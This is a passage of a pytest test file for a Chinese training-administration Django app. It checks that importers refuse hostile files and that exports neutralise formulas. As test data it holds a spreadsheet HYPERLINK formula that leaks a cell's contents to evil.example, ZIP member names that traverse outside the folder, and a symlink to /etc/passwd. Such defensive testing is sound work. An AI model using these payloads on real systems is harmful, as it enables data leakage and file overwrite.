"""Hostile input through the real importers and exports (contract.md, "General"): wrong encodings,
wrong headers, huge files, broken workbooks, spreadsheet formulas and ZIP archives that try to
escape their folder.

Every refusal must be an ImportFailed (or PeixunError) with a Chinese reason naming the file, the
line and the column — never a traceback — and must write nothing.
"""

import csv
import datetime as dt
import io
import resource
import time
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from peixun.accounts.http import MAX_UPLOAD_BYTES, read_upload
from peixun.attendance.models import AttendanceRecord
from peixun.checks.catalog import Hit
from peixun.checks.importing import import_registry
from peixun.checks.models import RegistryRow, RegistrySnapshot
from peixun.checks.services import findings_store
from peixun.core.contract import PACKAGE_COLUMNS, REGISTRY_COLUMNS
from peixun.core.errors import PeixunError
from peixun.core.models import Area, Job
from peixun.core.tabular import (
    MAX_ROWS,
    MAX_XLSX_BYTES,
    ImportFailed,
    read_table,
    safe_cell,
    write_csv,
    write_xlsx,
)
from peixun.core.uscc import uscc_complete
from peixun.exchange.package import CHUNK, import_package
from peixun.exchange.uploads import MAX_ZIP_MEMBERS, save_uploads
from peixun.institutions.models import Institution
from peixun.institutions.services import (
    INSTITUTION_COLUMNS,
    TEACHER_COLUMNS,
    import_institutions,
    import_teachers,
    institution_register,
)
from peixun.training import services as training
from peixun.training.models import TrainingClass
from tests.conftest import new_id_number
from tests.factories import Clock, Lifecycle

pytestmark = pytest.mark.django_db

ROSTER = "enrollments.csv"
ROSTER_HEADER = ("class_code", "id_number", "name", "phone", "category")
GOOD_ID = new_id_number("150102", dt.date(1993, 4, 4), seed=41)
OTHER_ID = new_id_number("150103", dt.date(1980, 1, 2), False, seed=42)
INST_CODE = uscc_complete("52150102MJY000077")
FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+86-471-1234567", "-2+3", "@SUM(A1)"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- building hostile files ---------------------------------------------------------------------


def csv_text(header, rows) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def failure(excinfo) -> list[str]:
    """The errors of an ImportFailed as the command line prints them: file:line: column: reason."""
    return [str(e) for e in excinfo.value.errors]


def problems(excinfo) -> list[tuple[int, str, str]]:
    """(line, column, reason) of each error, without the file name."""
    return [(e.line, e.column, e.message) for e in excinfo.value.errors]


_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def _column(index: int) -> str:
    name, index = "", index + 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def xlsx_bytes(rows, *, sheet: str = "enrollments", dimension: str | None = None) -> bytes:
    """A minimal .xlsx written by hand (fast for many rows, and able to carry the wrong
    <dimension> some non-Excel producers write). Cells are inline strings."""
    body = []
    for r, cells in enumerate(rows, start=1):
        xml = "".join(
            f'<c r="{_column(i)}{r}" t="inlineStr"><is><t>{escape(str(v))}</t></is></c>'
            for i, v in enumerate(cells)
            if v is not None
        )
        body.append(f'<row r="{r}">{xml}</row>')
    ref = dimension or f"A1:{_column(max(len(r) for r in rows) - 1)}{len(rows)}"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_NS}" xmlns:r="{_REL}">'
            f'<sheets><sheet name="{escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        z.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_NS}"><dimension ref="{ref}"/>'
            f"<sheetData>{''.join(body)}</sheetData></worksheet>",
        )
    return buffer.getvalue()


# --- fixtures: a draft class to upload a roster into, a data package ----------------------------


@pytest.fixture
def klass(world, monkeypatch):
    """A draft class of 鸿翔 with an empty roster (uploads are allowed until it is submitted)."""
    Clock(monkeypatch).travel(dt.date(2026, 11, 2))
    life = Lifecycle(world)
    draft = life.draft(start=dt.date(2026, 11, 23), trainees=[])
    draft.operator = life.operator
    return draft


def roster_upload(klass, name: str, data: bytes) -> dict:
    """The roster upload as the view does it: read_upload, then roster_import."""
    table = read_upload(
        upload(name, data),
        required=training.ROSTER_COLUMNS,
        optional=training.ROSTER_OPTIONAL,
        expected_name=ROSTER,
    )
    return training.roster_import(training_class=klass, table=table, actor=klass.operator)


def write_package_file(directory: Path, name: str, rows, *, encoding="utf-8", header=None) -> Path:
    path = directory / name
    path.write_bytes(csv_text(header or PACKAGE_COLUMNS[name], rows).encode(encoding))
    return path


def institution_row(code=INST_CODE, name="鸿翔职业技能培训学校", address="新华大街1号"):
    return [code, name, "PRIVATE_SCHOOL", "150102", address, "", "Y"]


# --- encoding: GBK is refused clearly, a BOM is fine ------------------------------------------------


GBK_ROSTER = csv_text(ROSTER_HEADER, [["", GOOD_ID, "王芳", "", "城镇登记失业人员"]]).encode("gbk")


def test_a_gbk_roster_gets_a_chinese_error_not_a_decode_traceback(klass):
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.csv", GBK_ROSTER)
    (error,) = failed.value.errors
    assert (error.file, error.line, error.column) == ("花名册.csv", 1, "文件")
    assert "UTF-8" in error.message and "GBK" in error.message
    assert failed.value.message == "导入失败：发现1处问题，未写入任何数据"
    assert not klass.enrollments.exists()


def test_a_gbk_roster_through_the_page_answers_400_with_the_reason(client, klass):
    client.force_login(klass.operator)
    response = client.post(
        reverse("training:roster_upload", args=[klass.pk]), {"file": upload("花名册.csv", GBK_ROSTER)}
    )
    assert response.status_code == 400
    assert "不是UTF-8编码" in response.content.decode()


def test_a_gbk_registry_file_is_refused_even_when_the_gbk_comes_late(reference_data, tmp_path):
    """The registry importer streams the file: a GBK row after 11,000 good ones (two batches of
    5,000 already inserted) still fails the whole import and writes nothing."""
    good = [[new_id_number("150102", dt.date(1950, 1, 1), seed=i), "张三", "2026-01-01"] for i in range(50)]
    rows = good * 220
    text = csv_text(REGISTRY_COLUMNS["death"], rows)
    path = tmp_path / "death.csv"
    path.write_bytes(text.encode() + f"{GOOD_ID},王芳,2026-01-02\n".encode("gbk"))
    with pytest.raises(ImportFailed) as failed:
        import_registry(kind="death", path=path, actor=None)
    assert any("不是UTF-8编码" in e for e in failure(failed))
    assert not RegistrySnapshot.objects.exists() and not RegistryRow.objects.exists()


@pytest.mark.parametrize("name", ["institutions.csv", "attendance.csv"])  # read_table / streamed
def test_a_gbk_file_in_a_data_package_is_refused(reference_data, tmp_path, name):
    attendance = [["C1", GOOD_ID, "2026-03-02T08:00:00", "", "MANUAL", "", "", "呼和浩特"]]
    gbk = name == "institutions.csv"
    write_package_file(tmp_path, "institutions.csv", [institution_row()], encoding="gbk" if gbk else "utf-8")
    if not gbk:
        write_package_file(tmp_path, "attendance.csv", attendance, encoding="gbk")
    with pytest.raises(ImportFailed) as failed:
        import_package(directory=tmp_path, actor=None)
    assert any(e.startswith(f"{name}:1: 文件: ") and "UTF-8" in e for e in failure(failed))
    assert not Institution.objects.filter(code=INST_CODE).exists()


def test_a_roster_with_a_utf8_bom_is_imported(klass):
    data = csv_text(ROSTER_HEADER, [[klass.code, GOOD_ID, "王芳", "", "城镇登记失业人员"]]).encode(
        "utf-8-sig"
    )
    assert data.startswith(b"\xef\xbb\xbf")
    assert roster_upload(klass, "花名册.csv", data) == {"rows": 1}
    assert klass.enrollments.get().category == "REGISTERED_UNEMPLOYED"


def test_a_bom_before_a_quoted_first_column_is_accepted(reference_data):
    data = b'\xef\xbb\xbf"institution_code",name,type,area_code,address,licensed_occupations,listed\n'
    data += ",".join(institution_row()).encode() + b"\n"
    table = read_upload(upload("institutions.csv", data), required=INSTITUTION_COLUMNS)
    assert table.columns[0] == "institution_code"
    assert import_institutions(table=table, actor=None)["created"] == 1


def test_registry_and_package_files_with_a_bom_are_imported(reference_data, tmp_path):
    death = tmp_path / "death.csv"
    death.write_bytes(
        csv_text(REGISTRY_COLUMNS["death"], [[GOOD_ID, "王芳", "2026-01-01"]]).encode("utf-8-sig")
    )
    assert import_registry(kind="death", path=death, actor=None).row_count == 1
    package = tmp_path / "pkg"
    package.mkdir()
    write_package_file(package, "institutions.csv", [institution_row()], encoding="utf-8-sig")
    import_package(directory=package, actor=None)
    assert Institution.objects.filter(code=INST_CODE).exists()


# --- headers: missing, unknown and repeated columns are named ------------------------------------


def test_a_missing_column_is_named(klass):
    data = csv_text(("id_number", "name"), [[GOOD_ID, "王芳"]]).encode()
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.csv", data)
    assert failure(failed) == ["花名册.csv:1: 表头: 缺少必需的列：category"]


def test_an_unknown_column_is_named_with_the_allowed_ones(klass):
    data = csv_text((*ROSTER_HEADER, "备注"), [[klass.code, GOOD_ID, "王芳", "", "GRADUATE", "x"]]).encode()
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.csv", data)
    (message,) = failure(failed)
    assert message.startswith("花名册.csv:1: 表头: 有不认识的列：备注（允许的列：id_number, name, category")
    assert not klass.enrollments.exists()


def test_a_repeated_column_is_named(reference_data):
    data = csv_text((*INSTITUTION_COLUMNS, "name"), [[*institution_row(), "又一个名字"]]).encode()
    with pytest.raises(ImportFailed) as failed:
        read_upload(upload("institutions.csv", data), required=INSTITUTION_COLUMNS)
    assert failure(failed) == ["institutions.csv:1: 表头: 列重复：name"]


def test_header_problems_in_an_xlsx_are_named_too(klass):
    data = xlsx_bytes([("id_number", "name", "类别"), (GOOD_ID, "王芳", "GRADUATE")])
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.xlsx", data)
    assert problems(failed) == [
        (1, "表头", "缺少必需的列：category"),
        (1, "表头", "有不认识的列：类别（允许的列：id_number, name, category, class_code, phone）"),
    ]


def test_the_errors_of_an_xlsx_upload_name_the_uploaded_file(klass):
    """read_upload finds the sheet of an .xlsx by the contract's name (enrollments), but its errors,
    like a .csv's, name the file the user uploaded."""
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.xlsx", b"not a workbook")
    assert failure(failed) == ["花名册.xlsx:1: 文件: 无法读取该Excel文件（文件损坏或不是.xlsx格式）"]


def test_header_problems_of_registry_and_package_files_are_named(reference_data, tmp_path):
    death = tmp_path / "death.csv"
    death.write_text(csv_text(("id_number", "name", "死亡日期"), [[GOOD_ID, "王芳", "2026-01-01"]]))
    with pytest.raises(ImportFailed) as failed:
        import_registry(kind="death", path=death, actor=None)
    assert failure(failed)[0] == "death.csv:1: 表头: 缺少必需的列：death_date"
    assert "有不认识的列：死亡日期" in failure(failed)[1]

    write_package_file(tmp_path, "lessons.csv", [["C1"]], header=("class_code", "date", "extra"))
    with pytest.raises(ImportFailed) as failed:
        import_package(directory=tmp_path, actor=None)
    messages = failure(failed)
    assert messages[0].startswith("lessons.csv:1: 表头: 缺少必需的列：start_time, end_time, hours, mode")
    assert messages[1].startswith("lessons.csv:1: 表头: 有不认识的列：extra")


def test_a_row_with_more_cells_than_the_header_is_named_by_line(klass):
    data = csv_text(ROSTER_HEADER, [[klass.code, GOOD_ID, "王芳", "", "GRADUATE", "多出来的"]]).encode()
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.csv", data)
    assert failure(failed) == ["花名册.csv:2: 整行: 该行有6个单元格，多于表头的5列"]


# --- 100,000 bad rows: every one counted, nothing written, in reasonable time and memory ------------

MANY = 100_000
# attendance.csv is validated in chunks of 20,000 rows (exchange.package.CHUNK): a chunk and one row
# more cross the boundary; the 100,000-row runs are the roster and the registry file
STREAMED_ROWS = CHUNK + 1


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_a_roster_of_100000_bad_rows_reports_every_row_and_writes_nothing(klass):
    data = csv_text(
        ROSTER_HEADER, ([klass.code, f"1501021990{i:08d}", "某", "", "GRADUATE"] for i in range(MANY))
    )
    before, started = peak_rss_mb(), time.monotonic()
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.csv", data.encode())
    elapsed = time.monotonic() - started
    errors = failed.value.errors
    assert len(errors) == MANY and failed.value.message == f"导入失败：发现{MANY}处问题，未写入任何数据"
    assert [e.line for e in errors] == list(range(2, MANY + 2))
    assert {e.column for e in errors} == {"id_number"}
    assert not klass.enrollments.exists()
    assert elapsed < 30 and peak_rss_mb() - before < 500


def test_a_registry_file_of_100000_bad_rows_is_streamed_and_writes_nothing(reference_data, tmp_path):
    path = tmp_path / "death.csv"
    path.write_text(
        csv_text(
            REGISTRY_COLUMNS["death"], ([f"150102199013{i:06d}", "某", "2026-01-01"] for i in range(MANY))
        )
    )
    before, started = peak_rss_mb(), time.monotonic()
    with pytest.raises(ImportFailed) as failed:
        import_registry(kind="death", path=path, actor=None)
    assert time.monotonic() - started < 30 and peak_rss_mb() - before < 500
    assert len(failed.value.errors) == MANY
    assert failed.value.errors[-1].line == MANY + 1
    assert not RegistrySnapshot.objects.exists() and not RegistryRow.objects.exists()


def test_a_package_attendance_file_of_20001_bad_rows_is_refused_whole(reference_data, tmp_path):
    write_package_file(tmp_path, "institutions.csv", [institution_row()])
    row = ["NO-SUCH-CLASS", GOOD_ID, "2026-03-02T08:00:00", "2026-03-02T11:00:00", "FACE", "", "", ""]
    write_package_file(tmp_path, "attendance.csv", [row] * STREAMED_ROWS)
    started = time.monotonic()
    with pytest.raises(ImportFailed) as failed:
        import_package(directory=tmp_path, actor=None)
    assert time.monotonic() - started < 30
    errors = failed.value.errors
    assert all(e.file == "attendance.csv" for e in errors)
    assert sorted(e.line for e in errors if e.column == "class_code") == list(range(2, STREAMED_ROWS + 2))
    # the good institutions.csv of the same package is rolled back with it
    assert not Institution.objects.filter(code=INST_CODE).exists()
    assert not AttendanceRecord.objects.exists()


# --- workbooks: not a zip, too big, too many rows --------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [b"id_number,name,category\n", b"PK\x03\x04 not really a zip", b"", b"\x00" * 4096],
    ids=["csv-renamed", "broken-zip", "empty", "zeros"],
)
def test_an_xlsx_that_is_not_a_workbook_gets_a_clear_error(klass, data):
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.xlsx", data)
    assert problems(failed) == [(1, "文件", "无法读取该Excel文件（文件损坏或不是.xlsx格式）")]


def test_an_upload_over_the_size_limit_is_refused_before_it_is_read(klass):
    data = b"\0" * (MAX_UPLOAD_BYTES + 1)
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, "花名册.xlsx", data)
    assert failure(failed) == ["花名册.xlsx:0: 文件: 文件超过20MB上限"]


def test_an_xlsx_over_the_workbook_limit_is_refused_before_it_is_opened(reference_data):
    """Files on disk (data packages, registries) do not pass read_upload: read_table's own limit."""
    data = io.BytesIO(b"PK\x03\x04" + b"\0" * MAX_XLSX_BYTES)
    with pytest.raises(ImportFailed) as failed:
        read_table(data, filename="death.xlsx", required=REGISTRY_COLUMNS["death"])
    assert failure(failed) == ["death.xlsx:1: 文件: Excel文件超过50MB上限"]


def test_the_importers_read_with_the_row_limit():
    assert MAX_ROWS == 200_000
    assert read_table.__kwdefaults__["max_rows"] == MAX_ROWS


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_a_file_with_more_rows_than_the_limit_is_refused(klass, monkeypatch, extension):
    """The real upload path with the limit lowered to 100 (200,000 rows take too long to build)."""
    monkeypatch.setitem(read_table.__kwdefaults__, "max_rows", 100)
    rows = [(klass.code, new_id_number(seed=i), f"学员{i}", "", "GRADUATE") for i in range(101)]
    data = (
        xlsx_bytes([ROSTER_HEADER, *rows]) if extension == "xlsx" else csv_text(ROSTER_HEADER, rows).encode()
    )
    with pytest.raises(ImportFailed) as failed:
        roster_upload(klass, f"花名册.{extension}", data)
    assert problems(failed) == [(102, "文件", "行数超过上限100行，请拆分后导入")]
    assert not klass.enrollments.exists()
    # exactly at the limit is fine
    table = read_table(
        io.BytesIO(data),
        filename=f"enrollments.{extension}",
        required=training.ROSTER_COLUMNS,
        optional=training.ROSTER_OPTIONAL,
        max_rows=101,
    )
    assert len(table.rows) == 101


def test_an_xlsx_with_a_stale_dimension_still_yields_all_its_rows(reference_data):
    """The sheet's <dimension> is not trusted: a workbook whose dimension says A1:E1 (stale, as some
    non-Excel producers write) still yields every row it holds."""
    rows = [ROSTER_HEADER, ("", GOOD_ID, "王芳", "", "GRADUATE"), ("", OTHER_ID, "陈静", "", "GRADUATE")]
    table = read_table(
        io.BytesIO(xlsx_bytes(rows, dimension="A1:E1")),
        filename=ROSTER.replace(".csv", ".xlsx"),
        required=training.ROSTER_COLUMNS,
        optional=training.ROSTER_OPTIONAL,
    )
    assert [r.values["id_number"] for r in table.rows] == [GOOD_ID, OTHER_ID]


def test_blank_rows_below_the_data_do_not_count_towards_the_row_limit(reference_data):
    """A sheet whose dimension reaches far below its data (row 500 here, limit 100; in practice beyond
    row 200,001) is read as the rows it holds, not refused as '行数超过上限'."""
    rows = [ROSTER_HEADER, ("", GOOD_ID, "王芳", "", "GRADUATE")]
    data = xlsx_bytes(rows, dimension="A1:E500")
    table = read_table(
        io.BytesIO(data),
        filename="enrollments.xlsx",
        required=ROSTER_HEADER[1:],
        optional=ROSTER_HEADER[:1],
        max_rows=100,
    )
    assert len(table.rows) == 1


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_blank_rows_between_and_below_the_data_are_skipped_and_not_counted(reference_data, extension):
    """Rows that are there but empty (formatted cells, empty strings, empty lines) are skipped and
    do not count towards the limit; a data row after them keeps its real line number."""
    data_row = ("", GOOD_ID, "王芳", "", "GRADUATE")
    blank = ("",) * 5 if extension == "csv" else (None,) * 5
    rows = [
        ROSTER_HEADER,
        data_row,
        *[blank] * 300,
        ("", OTHER_ID, "陈静", "", "GRADUATE"),
        *[("",) * 5] * 300,
    ]
    data = xlsx_bytes(rows) if extension == "xlsx" else csv_text(rows[0], rows[1:]).encode()
    table = read_table(
        io.BytesIO(data),
        filename=f"enrollments.{extension}",
        required=ROSTER_HEADER[1:],
        optional=ROSTER_HEADER[:1],
        max_rows=100,
    )
    assert [(r.line, r.values["id_number"]) for r in table.rows] == [(2, GOOD_ID), (303, OTHER_ID)]


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_reading_stops_at_ten_times_the_row_limit_however_many_rows_are_blank(reference_data, extension):
    """Blank rows are free but not unlimited: past 10 × max_rows lines in all the file is refused,
    so a sheet formatted down to its millionth row cannot keep a worker busy."""
    rows = [ROSTER_HEADER, ("", GOOD_ID, "王芳", "", "GRADUATE"), *[("",) * 5] * 1000]
    data = xlsx_bytes(rows) if extension == "xlsx" else csv_text(rows[0], rows[1:]).encode()
    with pytest.raises(ImportFailed) as failed:
        read_table(
            io.BytesIO(data),
            filename=f"enrollments.{extension}",
            required=ROSTER_HEADER[1:],
            optional=ROSTER_HEADER[:1],
            max_rows=100,
        )
    assert failure(failed) == [
        f"enrollments.{extension}:1002: 文件: 文件超过1000行（含空行），请删除多余的空行或拆分后导入"
    ]


@pytest.mark.parametrize("path", ["read_table", "iter_csv"])
def test_an_oversized_csv_cell_is_a_row_error_not_a_csv_traceback(reference_data, tmp_path, path):
    """A CSV cell longer than csv's field limit (131,072 characters) is an ImportFailed naming the
    line, from read_table and from the streamed iter_csv alike; nothing is written."""
    death = tmp_path / "death.csv"
    death.write_text(csv_text(REGISTRY_COLUMNS["death"], [[GOOD_ID, "某" * 200_000, "2026-01-01"]]))
    with pytest.raises(ImportFailed) as failed:
        if path == "read_table":
            read_table(death, filename="death.csv", required=REGISTRY_COLUMNS["death"])
        else:
            import_registry(kind="death", path=death, actor=None)
    assert failure(failed) == [
        "death.csv:2: 文件: 第2行的单元格过长（超过131072个字符），请检查该行（引号是否成对）"
    ]
    assert not RegistrySnapshot.objects.exists() and not RegistryRow.objects.exists()


# --- formulas: every export neutralises a cell starting with = + - @ ----------------------------

texts = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


def neutralised(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


@settings(max_examples=200, deadline=None)
@given(
    cells=st.lists(
        st.one_of(
            texts, st.sampled_from(FORMULAS), st.sampled_from(FORMULA_START[:5]).map(lambda c: c + "1+1")
        ),
        min_size=1,
        max_size=5,
    )
)
@example(cells=FORMULAS)
def test_write_csv_neutralises_formulas_and_keeps_everything_else(cells):
    rows = list(csv.reader(io.StringIO(write_csv([f"c{i}" for i in range(len(cells))], [cells]), newline="")))
    assert rows[1] == [neutralised(c) for c in cells]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in rows[1])


def test_a_carriage_return_inside_a_cell_can_neither_split_the_row_nor_smuggle_a_formula():
    """write_csv ends lines in CRLF, so csv quotes every field holding a \\r or a \\n: a value
    'x\\r=1+2' (a typed reason, a payee name) stays one cell and '=1+2' never starts a cell."""
    written = write_csv(["原因"], [["x\r=1+2"]])
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["原因"], ["x\r=1+2"]]


xlsx_texts = texts.filter(lambda s: not ILLEGAL_CHARACTERS_RE.search(s))


@settings(max_examples=60, deadline=None)
@given(cells=st.lists(st.one_of(xlsx_texts, st.sampled_from(FORMULAS)), min_size=1, max_size=5))
@example(cells=FORMULAS)
def test_write_xlsx_neutralises_formulas_and_keeps_everything_else(cells):
    content = write_xlsx("导出", [f"c{i}" for i in range(len(cells))], [cells])
    sheet = load_workbook(io.BytesIO(content)).active
    written = [sheet.cell(row=2, column=i + 1) for i in range(len(cells))]
    assert all(c.data_type != "f" for c in written)  # no formula cell, ever
    # XML turns \r into \n on reading; apart from that the text is the text (or '+ the text)
    assert [(c.value or "") for c in written] == [
        neutralised(v).replace("\r\n", "\n").replace("\r", "\n") for v in cells
    ]


def test_numbers_and_dates_stay_typed_and_only_text_is_prefixed():
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-1.5")) == -1.5
    assert safe_cell(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert safe_cell("张三=李四") == "张三=李四"


def test_an_imported_control_character_does_not_break_the_excel_export(client, world):
    """write_xlsx drops the ASCII control characters XML cannot carry (here \\x1b in an institution
    name, which import_institutions accepts) instead of failing the whole export."""
    data = csv_text(INSTITUTION_COLUMNS, [institution_row(name="鸿翔\x1b职业技能培训学校")]).encode()
    import_institutions(
        table=read_upload(upload("institutions.csv", data), required=INSTITUTION_COLUMNS), actor=None
    )
    client.force_login(world.region_admin)
    assert client.get(reverse("institutions:export")).status_code == 200


def test_a_control_character_cannot_hide_a_formula_from_the_excel_writers():
    content = write_xlsx("导出", ["c0", "c1"], [["\x1b=1+2", "鸿翔\x00\x08学校"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in sheet[2]] == ["'=1+2", "鸿翔学校"]
    assert all(c.data_type != "f" for c in sheet[2])


def test_formulas_from_an_institutions_import_are_neutralised_in_the_excel_exports(client, world):
    institutions = csv_text(
        INSTITUTION_COLUMNS,
        [institution_row(name=FORMULAS[1], address=FORMULAS[0])],
    ).encode()
    import_institutions(
        table=read_upload(upload("institutions.csv", institutions), required=INSTITUTION_COLUMNS), actor=None
    )
    teachers = csv_text(TEACHER_COLUMNS, [[OTHER_ID, "@王老师", INST_CODE, "-1+1 养老护理员技师"]]).encode()
    import_teachers(table=read_upload(upload("teachers.csv", teachers), required=TEACHER_COLUMNS), actor=None)
    client.force_login(world.region_admin)
    for url in (reverse("institutions:export"), reverse("institutions:teacher_export")):
        response = client.get(url)
        assert response.status_code == 200
        cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
        assert not any(c.data_type == "f" for c in cells)
        texts_ = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts_)
        if url.endswith("teachers/export.xlsx"):
            assert "'@王老师" in texts_ and "'-1+1 养老护理员技师" in texts_
        else:
            assert "'" + FORMULAS[1] in texts_ and "'" + FORMULAS[0] in texts_


def test_export_findings_neutralises_a_formula_in_a_class_code(reference_data, tmp_path):
    """`peixun export_findings` writes with tabular's writer like every other export: a class_code
    from classes.csv (any text up to 40 characters) starting with = + - @ is written with a leading '
    (docs/rules-interpretation.md); ID numbers, dates and amounts never start so and are unchanged."""
    institution = institution_register(
        code=INST_CODE,
        name="鸿翔职业技能培训学校",
        type="PRIVATE_SCHOOL",
        area=Area.objects.get(code="150102"),
        actor=None,
    )
    code = '=HYPERLINK("http://evil.example","班级")'
    TrainingClass.objects.create(
        code=code,
        institution=institution,
        area=Area.objects.get(code="150102"),
        occupation_code="4-10-01-05",
        occupation_name="养老护理员",
        level="5",
        training_type="EMPLOYMENT",
        start_date=dt.date(2026, 3, 2),
        end_date=dt.date(2026, 3, 20),
        total_hours=120,
        site_address="新华大街1号",
    )
    findings_store(
        hits=[Hit("BATCH_CHECKIN", code, "", "2026-03-03 08:00:00同一秒有12条签到记录")],
        rules_version=1,
        class_ids=None,
    )
    target = tmp_path / "findings.csv"
    call_command("export_findings", str(target), stdout=io.StringIO())
    (row,) = csv.DictReader(open(target, encoding="utf-8"))
    assert row["class_code"] == "'" + code


# --- ZIP uploads: nothing escapes the upload folder ------------------------------------------------

PACKAGE_NAMES = set(PACKAGE_COLUMNS)


def zip_of(members: dict[str, bytes], *, links: tuple[str, ...] = ()) -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            if name in links:
                info.external_attr = 0o120777 << 16  # a symbolic link
            archive.writestr(info, data)
    return upload("package.zip", buffer.getvalue())


@pytest.mark.parametrize(
    "member",
    [
        "../../etc/x.csv",
        "../classes.csv",
        "pkg/../../classes.csv",
        "/etc/classes.csv",
        "..\\..\\classes.csv",
        "pkg\\..\\..\\classes.csv",
    ],
)
def test_a_zip_member_with_a_path_escaping_the_folder_is_refused(tmp_path, settings, member):
    settings.MEDIA_ROOT = tmp_path / "media"
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of({"institutions.csv": b"x", member: b"x"})], allowed=PACKAGE_NAMES)
    assert refused.value.message == f"压缩包内的路径不安全：{member}"
    assert {p.name for p in tmp_path.rglob("*") if p.is_file()} <= {"institutions.csv"}
    assert not (tmp_path / "etc").exists() and not (tmp_path / "classes.csv").exists()


def test_a_zip_with_a_symbolic_link_is_refused(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of({"classes.csv": b"/etc/passwd"}, links=("classes.csv",))], allowed=PACKAGE_NAMES)
    assert refused.value.message == "压缩包内含链接文件：classes.csv"
    assert not [p for p in tmp_path.rglob("*") if p.is_symlink()]


def test_a_broken_or_overfull_zip_is_refused(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    with pytest.raises(PeixunError) as refused:
        save_uploads([upload("package.zip", b"PK\x03\x04 truncated")], allowed=PACKAGE_NAMES)
    assert refused.value.message == "压缩包已损坏或不是ZIP格式"
    members = {f"dir{i}/classes.csv": b"x" for i in range(MAX_ZIP_MEMBERS + 1)}
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of(members)], allowed=PACKAGE_NAMES)
    assert refused.value.message == "压缩包内文件过多"


def test_zip_members_land_flat_in_the_upload_folder_and_only_with_contract_names(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    directory = save_uploads(
        [zip_of({"数据包/classes.csv": b"c", "institutions.xlsx": b"i"})], allowed=PACKAGE_NAMES
    )
    assert sorted(p.name for p in directory.iterdir()) == ["classes.csv", "institutions.xlsx"]
    assert directory.parent == tmp_path / "media" / "uploads"
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of({"run.sh.csv": b"x"})], allowed=PACKAGE_NAMES)
    assert "不是数据包文件" in refused.value.message
    with pytest.raises(PeixunError):
        save_uploads([zip_of({".classes.csv": b"x"})], allowed=PACKAGE_NAMES)


def test_two_zip_members_with_the_same_name_are_refused(tmp_path, settings):
